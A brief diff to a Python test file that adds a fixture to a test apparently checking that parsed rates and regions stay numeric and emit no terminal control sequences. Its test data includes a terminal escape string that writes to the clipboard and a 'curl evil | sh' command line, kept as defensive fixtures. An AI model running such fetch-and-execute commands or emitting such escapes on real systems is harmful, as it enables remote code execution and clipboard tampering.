@@ -246,6 +246,7 @@ def test_times_that_are_none_are_no_error_inside_walproof(
 ESCAPES = "\\u001b]52;c;ZXZpbA==\\u0007\\u009b2K"
 
 
+@pytest.mark.usefixtures("quick_forecasts")
 def test_rates_and_regions_are_numbers_and_move_no_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     recorded(tmp_path / "r", "prove", prove_record(Level.ON))
     rates, command = DEFAULT.read_text("utf-8"), 'command = "curl evil | sh"\n'
